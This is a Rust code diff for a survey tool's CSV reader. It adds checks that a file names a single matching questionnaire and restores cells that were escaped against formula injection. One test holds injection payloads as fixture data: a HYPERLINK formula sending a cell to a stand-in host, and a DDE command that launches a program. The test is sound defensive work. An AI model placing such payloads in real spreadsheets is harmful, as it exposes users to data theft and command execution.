@@ -8,10 +8,16 @@ use crate::domain::template::{ProfileKind, Template};
 use std::collections::BTreeMap;
 use std::io::Read;
 
+use super::csv_out::restored;
 pub use super::issue::{CsvIssue, Problem};
 
 /// Columns written by exports that carry no score; accepted and kept as metadata.
-pub const METADATA_COLUMNS: [&str; 7] = ["id", "unit", "layanan", "channel", "submitted_at", "tanggal", "saran"];
+pub const METADATA_COLUMNS: [&str; 9] =
+    ["id", "unit", "layanan", "channel", "submitted_at", "tanggal", "saran", TEMPLATE_COLUMN, "template_version"];
+
+/// The column naming the questionnaire a file's answers belong to (its id), as `skm report`
+/// writes it; `template_version` beside it says which version its columns follow.
+pub const TEMPLATE_COLUMN: &str = "template";
 
 /// At most this many problems are listed; a file with more is surely the wrong file.
 const MAX_ISSUES: usize = 200;
@@ -54,7 +60,14 @@ pub fn parse_collecting(
 ) -> Result<(Vec<CsvRow>, Vec<CsvIssue>), Vec<CsvIssue>> {
     let mut bytes = Vec::new();
     input.read_to_end(&mut bytes).map_err(|_| vec![CsvIssue::file(Problem::Unreadable)])?;
-    let Table { header, records } = table(&bytes)?;
+    let table = table(&bytes)?;
+    if let Some(named) = file_template(&table).map_err(|issue| vec![issue])? {
+        if !same(&named.id, &template.id) {
+            let problem = Problem::OtherTemplate { value: named.id, template: template.id.clone() };
+            return Err(vec![CsvIssue { row: named.row, column: Some(named.column), problem }]);
+        }
+    }
+    let Table { header, records } = table;
     let mut issues = Vec::new();
     let mut columns: Vec<(String, Column)> = Vec::with_capacity(header.len());
     for written in header.iter() {
@@ -136,6 +149,47 @@ pub fn parse_collecting(
     Ok((rows, issues))
 }
 
+/// The questionnaire a file says it holds answers of: the id in its `template` column, when it
+/// has one (`skm report` writes it). Every row must name the same one.
+pub fn named_template(bytes: &[u8]) -> Result<Option<String>, Vec<CsvIssue>> {
+    let table = table(bytes)?;
+    Ok(file_template(&table).map_err(|issue| vec![issue])?.map(|named| named.id))
+}
+
+/// A `template` cell: the id, where it was found.
+struct NamedTemplate {
+    id: String,
+    row: u64,
+    column: String,
+}
+
+/// The first `template` cell, after checking that no other row names another questionnaire.
+fn file_template(table: &Table) -> Result<Option<NamedTemplate>, CsvIssue> {
+    let Some((index, column)) = table
+        .header
+        .iter()
+        .map(|h| h.trim_start_matches('\u{feff}'))
+        .enumerate()
+        .find(|(_, h)| same(h, TEMPLATE_COLUMN))
+    else {
+        return Ok(None);
+    };
+    let mut first: Option<NamedTemplate> = None;
+    for (row, record) in table.records.iter().filter_map(|r| r.as_ref().ok()) {
+        let Some(cell) = record.get(index).filter(|c| !c.is_empty()) else { continue };
+        match &first {
+            None => first = Some(NamedTemplate { id: cell.to_string(), row: *row, column: column.to_string() }),
+            Some(named) if same(&named.id, cell) => {}
+            Some(named) => {
+                let problem =
+                    Problem::MixedTemplates { value: cell.to_string(), first: named.id.clone(), row: named.row };
+                return Err(CsvIssue { row: *row, column: Some(column.to_string()), problem });
+            }
+        }
+    }
+    Ok(first)
+}
+
 /// The separator of a file: `;` when its header line has more semicolons than commas outside
 /// quotes, otherwise `,`.
 pub(super) fn delimiter(text: &[u8]) -> u8 {
@@ -180,7 +234,8 @@ fn same(a: &str, b: &str) -> bool {
 }
 
 /// A CSV file as every reader here takes it: a byte-order mark dropped, `,` or `;` (whichever
-/// the header uses most), cells trimmed; then its header and its data rows in order, each with
+/// the header uses most), cells trimmed and the `'` that skm writes before a formula-like cell
+/// taken off again (`csv_out::restored`); then its header and its data rows in order, each with
 /// its line number, or the problem that makes it unreadable (a malformed record, or not as many
 /// cells as the header). Rows whose every cell is empty are skipped.
 pub(super) struct Table {
@@ -196,8 +251,8 @@ pub(super) fn table(bytes: &[u8]) -> Result<Table, Vec<CsvIssue>> {
     let mut lines = Lines { bytes, offset: 0, line: 1 };
     let mut reader =
         csv::ReaderBuilder::new().flexible(true).trim(csv::Trim::All).delimiter(delimiter(text)).from_reader(bytes);
-    let header =
-        reader.headers().map_err(|_| vec![CsvIssue { row: 1, column: None, problem: Problem::BadRecord }])?.clone();
+    let header = reader.headers().map_err(|_| vec![CsvIssue { row: 1, column: None, problem: Problem::BadRecord }])?;
+    let header: csv::StringRecord = header.iter().map(restored).collect();
     let (mut records, mut bad) = (Vec::new(), 0);
     for record in reader.records() {
         if bad >= MAX_ISSUES {
@@ -222,7 +277,7 @@ pub(super) fn table(bytes: &[u8]) -> Result<Table, Vec<CsvIssue>> {
             bad += 1;
             continue;
         }
-        records.push(Ok((row, record)));
+        records.push(Ok((row, record.iter().map(restored).collect())));
     }
     Ok(Table { header, records })
 }
@@ -396,6 +451,42 @@ mod tests {
             let rows: Vec<u64> = issues.iter().map(|i| i.row).collect();
             assert_eq!(rows, [4, 7], "line ends {end:?}: {issues:?}");
         }
+    }
+
+    #[test]
+    fn the_template_column_names_the_questionnaire_and_must_be_the_one_read_with() {
+        let text = "U1,saran,template,template_version\n4,bagus,permenpanrb-14-2017,2017.1\n4,,,\n";
+        assert_eq!(named_template(text.as_bytes()).expect("read").as_deref(), Some("permenpanrb-14-2017"));
+        assert_eq!(parse(&template(), text.as_bytes()).expect("its own questionnaire").len(), 2);
+        assert_eq!(named_template(b"U1\n4\n").expect("read"), None);
+
+        let other = "P1;template\n5;spkp-zi\n";
+        let issues = parse(&template(), other.as_bytes()).expect_err("another questionnaire");
+        assert_eq!(
+            issues[0].to_string(),
+            "row 2, column template: the file holds answers to questionnaire 'spkp-zi', not permenpanrb-14-2017"
+        );
+        let mixed = "U1,template\n4,permenpanrb-14-2017\n4,spkp-zi\n";
+        let issues = named_template(mixed.as_bytes()).expect_err("two questionnaires");
+        assert_eq!(
+            issues[0].text(crate::i18n::Tr::new(crate::domain::template::Lang::Id)),
+            "baris 3, kolom template: kuesioner 'spkp-zi' berbeda dengan 'permenpanrb-14-2017' di baris 2; \
+             satu berkas hanya untuk satu kuesioner"
+        );
+    }
+
+    #[test]
+    fn cells_skm_neutralised_are_read_as_they_were() {
+        let saran = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3", "'=x"];
+        let mut writer = super::super::csv_out::Writer::new(Vec::new(), b';');
+        writer.write_record(["U1", "saran"]).expect("header");
+        for s in saran {
+            writer.write_record(["4", s]).expect("row");
+        }
+        let bytes = writer.into_inner().expect("bytes");
+        let rows = parse(&template(), bytes.as_slice()).expect("read back");
+        let read: Vec<&str> = rows.iter().map(|r| r.metadata["saran"].as_str()).collect();
+        assert_eq!(read, saran);
     }
 
     #[test]
